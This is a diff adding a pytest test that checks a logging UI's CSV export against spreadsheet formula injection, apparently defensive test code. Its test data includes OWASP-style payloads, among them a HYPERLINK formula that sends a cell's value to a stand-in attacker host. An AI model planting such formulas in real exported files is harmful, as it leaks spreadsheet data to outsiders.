@@ -270,3 +270,22 @@ def test_a_query_of_many_large_values_holds_at_most_the_bound(tmp_path: Path) ->
     rows, truncated, note, peak_mb = json.loads(out.stdout)
     assert truncated and rows == 2 and "64 MB" in note
     assert peak_mb < 400, f"peak RSS {peak_mb} MB"
+
+
+# What a spreadsheet would run as a formula, as logged text may well start (OWASP's list).
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_csv_downloads_open_as_text_in_a_spreadsheet(ui: Running) -> None:
+    ui.store.insert([make_call(1000 + i, feature=f) for i, f in enumerate(FORMULAS)])
+    sql = (
+        'SELECT feature, input_tokens - 2000 AS "=n", model FROM calls'
+        " WHERE input_tokens >= 1100 ORDER BY input_tokens"
+    )
+    rows = list(csv.reader(io.StringIO(ui.get("/sql.csv", params={"q": sql}).text, newline="")))
+    assert rows[0] == ["feature", "'=n", "model"]
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
+    assert [r[1] for r in rows[1:]] == [str(1100 + i - 2000) for i in range(6)]  # numbers stay numbers
+    assert all(not r[2].startswith("'") for r in rows[1:])
+    # The JSON download is data, not a sheet: as stored.
+    assert [r["feature"] for r in ui.get("/sql.json", params={"q": sql}).json()] == FORMULAS
